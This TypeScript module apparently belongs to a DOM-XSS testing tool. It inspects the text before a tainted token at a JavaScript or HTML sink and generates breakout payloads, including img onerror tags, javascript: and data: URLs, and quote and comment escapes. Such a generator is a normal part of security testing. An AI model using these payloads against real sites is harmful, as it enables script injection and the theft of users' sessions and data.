/** The sign that is left open where a text of JavaScript ends: a quote, a comment, or none. */
function openSign(code: string): string {
  let open = '';
  for (let at = 0; at < code.length; at += 1) {
    const sign = code[at] ?? '';
    const pair = code.slice(at, at + 2);
    if (open === '') {
      if (sign === "'" || sign === '"' || sign === '`') open = sign;
      else if (pair === '//' || pair === '/*') {
        open = pair;
        at += 1;
      }
    } else if (open === '//') {
      if (sign === '\n') open = '';
    } else if (open === '/*') {
      if (pair === '*/') {
        open = '';
        at += 1;
      }
    } else if (sign === '\\') at += 1;
    else if (sign === open) open = '';
  }
  return open;
}

/** What makes JavaScript call a function where this code stands before it. */
function inCode(before: string, call: string): string[] {
  const open = openSign(before);
  if (open === '') return [call, `;${call}//`, `1);${call}//`];
  if (open === '//') return [`\n${call}//`];
  if (open === '/*') return [`*/${call}//`];
  return [`${open};${call}//`, `${open}-${call}-${open}`, `${open});${call}//`, `\\${open};${call}//`];
}

/** Without an address, as each address of a picture is answered. */
const image = (call: string) => `<img src onerror=${call}>`;
const addresses: ReadonlySet<string> = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href']);

/** The attribute that is open where a text of HTML ends; undefined outside of tags. */
function openAttribute(
  markup: string,
): { readonly name: string; readonly quote: string; readonly value: string } | undefined {
  const tag = markup.slice(markup.lastIndexOf('<'));
  const equals = tag.lastIndexOf('=');
  if (!tag.startsWith('<') || tag.includes('>') || equals < 0) return undefined;
  const name = tag.slice(0, equals).trimEnd().split(/\s/).at(-1) ?? '';
  const value = tag.slice(equals + 1).trimStart();
  const quote = /^["']/.exec(value)?.[0] ?? '';
  return { name: name.toLowerCase(), quote, value: value.slice(quote.length) };
}

/** What makes a browser call a function where this markup stands before it. */
function inMarkup(before: string, call: string): string[] {
  const attribute = openAttribute(before);
  if (attribute === undefined) return [image(call), `--></title></textarea></style></script>${image(call)}`];
  const { name, quote, value } = attribute;
  const breakouts =
    quote === ''
      ? [`x onclick=${call}`, `>${image(call)}`]
      : [`${quote}>${image(call)}`, `${quote}onclick=${quote}${call}`];
  if (name.startsWith('on')) return [...inCode(value, call), ...breakouts];
  return addresses.has(name) && value === '' ? [`javascript:${call}`, ...breakouts] : breakouts;
}

const codeSinks =
  /^(?:eval|Function|Window set(?:Timeout|Interval)|Element on\w+|HTMLScriptElement (?:text|textContent|innerText)|SVGElement on\w+)$/;
const scriptAddresses = /^HTML?(?:Script|Embed|Object)Element\b|^script\.|^embed\.|^object\./;

/**
 * Values that call a function where a token reached a sink; the likeliest first, at most four. `given` is what the sink
 * got, with the token in it.
 */
export function payloadsFor(
  { sink, given, token }: { readonly sink: string; readonly given: string; readonly token: string },
  call: string,
): readonly string[] {
  const before = given.slice(0, Math.max(0, given.indexOf(token)));
  if (scriptAddresses.test(sink)) return [`data:text/javascript,${call}`, `javascript:${call}`];
  if (codeSinks.test(sink)) return inCode(before, call).slice(0, 4);
  if (/^(?:location|[\w-]+\.[\w:]+)$/.test(sink)) return [`javascript:${call}`];
  return inMarkup(before, call).slice(0, 4);
}
